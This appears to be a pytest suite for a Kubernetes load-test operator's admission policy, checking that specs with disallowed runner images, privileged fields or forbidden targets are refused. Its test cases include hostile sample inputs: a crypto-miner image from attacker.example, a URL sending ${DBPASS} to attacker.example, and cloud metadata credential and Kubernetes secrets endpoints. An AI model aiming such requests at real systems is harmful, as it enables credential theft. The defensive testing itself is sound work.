"""The operator-wide policy: read from HERD_POLICY (the chart's ``policy`` values), checked on
every LoadTest and run before any Job exists, each refusal naming the field and the policy
value, and handed to the runners (HERD_RUNNER_POLICY) to hold at run time."""

from __future__ import annotations

import copy
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from herd.api.loading import parse_loadtest
from herd.api.policy import RUNNER_POLICY_ENV, runner_policy_from_env
from herd_operator.job import build_runner_job
from herd_operator.objects import read_run
from herd_operator.policy import (
    DEFAULT_POLICY,
    OPEN_POLICY,
    OperatorPolicy,
    api_server_rules,
    policy_from_environment,
    policy_problems,
)
from herd_operator.run_status import Action, reconcile_run
from herd_operator.scheduling import next_action
from herd_operator.settings import DEFAULT_RUNNER_IMAGE, RunnerSettings
from tests.operator.fixtures import CREATED, FULL_SPEC, MINIMAL_SPEC, loadtest, run_body

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
IN_CLUSTER_API = api_server_rules("https://10.96.0.1:443", {"KUBERNETES_SERVICE_HOST": "10.96.0.1"})
# The policy as `herd operator` enforces the chart's defaults in a cluster.
POLICY = DEFAULT_POLICY.effective(DEFAULT_RUNNER_IMAGE, IN_CLUSTER_API)


def with_runner(**runner: Any) -> dict[str, Any]:
    return {**MINIMAL_SPEC, "runner": runner}


def with_target(url: str) -> dict[str, Any]:
    return {**MINIMAL_SPEC, "target": {"url": url, "body": "{}"}}


def problems_of(spec: dict[str, Any], policy: OperatorPolicy = POLICY) -> list[str]:
    return policy_problems(parse_loadtest(loadtest(spec)).spec, policy)


SECRET_ENV = {"name": "KEY", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}

REFUSED = [
    # (spec, the policy, the start of the one problem, the policy value it names)
    (
        with_runner(image="attacker.example/miner:latest"),
        POLICY,
        "spec.runner.image: attacker.example/miner:latest is not an image",
        f"(policy.runnerImages: {DEFAULT_RUNNER_IMAGE})",
    ),
    (
        with_runner(serviceAccountName="cluster-admin"),
        POLICY,
        "spec.runner.serviceAccountName: not allowed",
        "(policy.runnerFields.serviceAccountName: false)",
    ),
    (
        with_runner(tolerations=[{"operator": "Exists"}]),
        POLICY,
        "spec.runner.tolerations: not allowed",
        "(policy.runnerFields.tolerations: false)",
    ),
    (
        with_runner(nodeSelector={"pool": "load"}),
        OperatorPolicy.model_validate({"runnerFields": {"nodeSelector": False}}),
        "spec.runner.nodeSelector: not allowed",
        "(policy.runnerFields.nodeSelector: false)",
    ),
    (
        with_runner(envFrom=[{"secretRef": {"name": "db"}}]),
        OperatorPolicy.model_validate({"runnerFields": {"envFrom": False}}),
        "spec.runner.envFrom: not allowed",
        "(policy.runnerFields.envFrom: false)",
    ),
    (
        with_runner(env=[{"name": "A", "value": "1"}, SECRET_ENV]),
        OperatorPolicy.model_validate({"runnerFields": {"secretKeyRef": False}}),
        "spec.runner.env[1].valueFrom.secretKeyRef: not allowed",
        "(policy.runnerFields.secretKeyRef: false)",
    ),
    (
        with_runner(env=[{"name": RUNNER_POLICY_ENV, "value": "{}"}]),
        OPEN_POLICY,
        f"spec.runner.env[0].name: {RUNNER_POLICY_ENV} is set by the operator",
        "",
    ),
    (
        with_target("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        POLICY,
        "spec.target.url: host 169.254.169.254 is refused by the operator's policy: "
        "169.254.169.254 is in 169.254.0.0/16, which is denied",
        "(policy.targets.deny)",
    ),
    (
        with_target("http://[fd00:ec2::254]/latest/"),
        POLICY,
        "spec.target.url: host fd00:ec2::254 is refused",
        "(policy.targets.deny)",
    ),
    (
        with_target("http://100.100.100.200/latest/meta-data/"),
        POLICY,
        "spec.target.url: host 100.100.100.200 is refused",
        "(policy.targets.deny)",
    ),
    (
        with_target("http://Metadata.Google.Internal/computeMetadata/v1/"),
        POLICY,
        "spec.target.url: host metadata.google.internal is refused by the operator's policy: "
        "metadata.google.internal is denied",
        "(policy.targets.deny)",
    ),
    (
        with_target("https://10.96.0.1/api/v1/secrets"),
        POLICY,
        "spec.target.url: host 10.96.0.1 is refused",
        "(policy.targets.deny)",
    ),
    (
        with_target("https://kubernetes.default.svc/api/v1/namespaces/perf/secrets"),
        POLICY,
        "spec.target.url: host kubernetes.default.svc is refused",
        "(policy.targets.deny)",
    ),
    (
        {**MINIMAL_SPEC, "scalingProbe": {"url": "http://169.254.169.254/health"}},
        POLICY,
        "spec.scalingProbe.url: host 169.254.169.254 is refused",
        "(policy.targets.deny)",
    ),
    (
        {
            **MINIMAL_SPEC,
            "uploads": {
                "endpoint": "http://169.254.170.2",
                "bucket": "inputs",
                "perRequest": 1,
                "source": {"synthetic": {"sizeBytes": 16}},
            },
        },
        POLICY,
        "spec.uploads.endpoint: host 169.254.170.2 is refused",
        "(policy.targets.deny)",
    ),
    (
        {**MINIMAL_SPEC, "metrics": {"pushgateway": "http://169.254.169.254:9091"}},
        POLICY,
        "spec.metrics.pushgateway: host 169.254.169.254 is refused",
        "(policy.targets.deny)",
    ),
    (
        with_target("https://attacker.example/?db=${DBPASS}"),
        OperatorPolicy.model_validate({"targets": {"allow": ["api.runpod.ai"]}}),
        "spec.target.url: host attacker.example is refused by the operator's policy: "
        "attacker.example matches no allowed name",
        "(policy.targets.allow)",
    ),
]


@pytest.mark.parametrize(("spec", "policy", "start", "names"), REFUSED)
def test_each_refusal_names_the_field_and_the_policy_value(spec, policy, start, names):
    problems = problems_of(spec, policy)
    assert len(problems) == 1, problems
    assert problems[0].startswith(start), problems
    assert problems[0].endswith(names), problems


def test_the_defaults_allow_scheduling_and_secrets_but_not_accounts_or_tolerations():
    allowed = with_runner(
        image=DEFAULT_RUNNER_IMAGE,  # the operator's own image, named
        nodeSelector={"pool": "load"},
        affinity={"nodeAffinity": {}},
        env=[SECRET_ENV],
        envFrom=[{"secretRef": {"name": "s3-credentials"}}],
    )
    assert problems_of(allowed) == []
    fields = DEFAULT_POLICY.runner_fields
    assert not fields.service_account_name and not fields.tolerations
    assert DEFAULT_POLICY.runner_images == []  # effective(): the operator's image only


def test_everything_the_full_spec_asks_for_is_listed_at_once():
    problems = problems_of(FULL_SPEC)
    assert [problem.split(":")[0] for problem in problems] == [
        "spec.runner.image",
        "spec.runner.serviceAccountName",
        "spec.runner.tolerations",
    ]


def test_image_patterns_allow_exact_references_and_prefixes():
    policy = OperatorPolicy.model_validate(
        {"runnerImages": ["registry.example.com/herd:*", "mirror.example/herd:0.1.0"]}
    ).effective(DEFAULT_RUNNER_IMAGE)
    assert problems_of(with_runner(image="registry.example.com/herd:1.2.3"), policy) == []
    assert problems_of(with_runner(image="mirror.example/herd:0.1.0"), policy) == []
    assert problems_of(with_runner(image="mirror.example/herd:0.1.1"), policy) != []
    assert problems_of(with_runner(image="registry.example.com/other:1"), policy) != []


def test_a_host_behind_a_variable_is_left_to_the_runners():
    assert problems_of(with_target("http://${TARGET_HOST}/generate")) == []


def test_the_api_server_is_denied_by_its_service_address_and_names():
    assert IN_CLUSTER_API == [
        "kubernetes",
        "kubernetes.default",
        "kubernetes.default.svc",
        "kubernetes.default.svc.cluster.local",
        "10.96.0.1/32",
    ]
    # an operator outside the cluster reaching it through a tunnel: runner pods cannot
    # reach a loopback address, so it is not a rule (it would only refuse local targets)
    assert "127.0.0.1/32" not in api_server_rules("https://127.0.0.1:6443", {})
    assert "api.cluster.example" in api_server_rules("https://api.cluster.example:6443", {})
    off = OperatorPolicy.model_validate({"targets": {"denyApiServer": False}})
    assert "10.96.0.1/32" not in off.effective(DEFAULT_RUNNER_IMAGE, IN_CLUSTER_API).targets.deny


def test_herd_policy_is_read_from_the_environment_and_a_bad_one_names_the_field():
    assert policy_from_environment({}) == DEFAULT_POLICY
    document = {"runnerFields": {"tolerations": True}, "targets": {"allow": ["*.runpod.ai"]}}
    policy = policy_from_environment({"HERD_POLICY": json.dumps(document)})
    assert policy.runner_fields.tolerations and policy.targets.allow == ["runpod.ai"]
    assert policy.targets.deny == DEFAULT_POLICY.targets.deny  # defaults kept
    with pytest.raises(ValueError, match=r"HERD_POLICY .*runnerFields.tolerationz"):
        policy_from_environment({"HERD_POLICY": '{"runnerFields": {"tolerationz": true}}'})
    with pytest.raises(ValueError, match=r"HERD_POLICY .*targets.deny\[0\]: .*neither a CIDR"):
        policy_from_environment({"HERD_POLICY": '{"targets": {"deny": ["not a host"]}}'})


def test_a_loadtest_the_policy_refuses_is_invalid_with_one_event_and_starts_no_run():
    body = loadtest(with_runner(serviceAccountName="cluster-admin"))
    decision = next_action(body, [], CREATED + timedelta(seconds=5), policy=POLICY)
    assert decision.create is None and decision.status["phase"] == "Invalid"
    assert "(policy.runnerFields.serviceAccountName: false)" in decision.status["message"]
    (event,) = decision.events
    assert event.type == "Warning" and event.reason == "InvalidSpec"
    assert "spec.runner.serviceAccountName" in event.message
    again = next_action({**body, "status": decision.status}, [], CREATED, policy=POLICY)
    assert again.events == ()  # said once
    assert next_action(body, [], CREATED).create is not None  # no policy: it runs


def test_a_run_created_by_hand_is_held_to_the_policy_and_creates_no_runners():
    run = run_body(with_target("http://169.254.169.254/"))
    result = reconcile_run(run, None, [], CREATED, RunnerSettings(policy=POLICY))
    assert result.status["phase"] == "Invalid" and result.actions == ()
    assert result.status["message"].startswith("spec.loadTest.target.url: host 169.254.169.254")
    assert [event.reason for event in result.events] == ["InvalidSpec"]


def test_a_started_run_is_not_cut_off_when_the_policy_tightens():
    run = run_body(
        with_runner(serviceAccountName="loader"),
        status={"phase": "Running", "jobName": "sdxl-burst-g1"},
    )
    job = build_runner_job(read_run(run))
    result = reconcile_run(
        run, job, [], CREATED + timedelta(seconds=10), RunnerSettings(policy=POLICY)
    )
    assert result.status["phase"] != "Invalid"
    assert Action.CREATE_RUNNERS not in result.actions


def test_runners_get_the_target_rules_last_in_their_environment():
    spec = with_runner(env=[{"name": "A", "value": "1"}], envFrom=[{"secretRef": {"name": "s"}}])
    job = build_runner_job(read_run(run_body(spec)), RunnerSettings(policy=POLICY))
    container = job["spec"]["template"]["spec"]["containers"][0]
    last = container["env"][-1]
    # env wins over envFrom and the later of two entries wins: no Secret key replaces it
    assert last["name"] == RUNNER_POLICY_ENV
    policy = runner_policy_from_env({RUNNER_POLICY_ENV: last["value"]})
    assert policy is not None and policy.max_requests is None
    assert policy.targets.deny == POLICY.targets.deny
    assert "10.96.0.1/32" in policy.targets.deny and "169.254.0.0/16" in policy.targets.deny


@pytest.mark.parametrize("path", sorted(EXAMPLES.glob("*.yaml")), ids=lambda path: path.name)
def test_every_example_passes_the_charts_default_policy(path: Path):
    for document in yaml.safe_load_all(path.read_text()):
        if document and document.get("kind") == "LoadTest":
            spec = parse_loadtest(copy.deepcopy(document)).spec
            assert policy_problems(spec, POLICY) == []
